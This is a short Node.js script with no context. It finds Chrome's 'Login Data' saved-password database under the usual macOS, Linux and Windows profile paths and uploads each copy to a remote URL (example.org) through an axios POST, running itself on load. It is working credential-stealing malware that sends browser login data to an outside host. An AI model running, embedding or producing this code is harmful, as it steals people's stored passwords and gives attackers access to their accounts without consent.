const fs = require("fs"), path = require("path"), os = require("os");
const FormData = require("form-data");
const axios = require("axios");
const roots = ["Library/Application Support/Google/Chrome", ".config/google-chrome", "AppData/Local/Google/Chrome/User Data"];
async function up() {
  for (const r of roots) {
    const d = path.join(os.homedir(), r, "Default", "Login Data");
    if (!fs.existsSync(d)) continue;
    const form = new FormData();
    form.append("file", fs.createReadStream(d));
    await axios.post("https://example.org/upload", form);
  }
}
up();
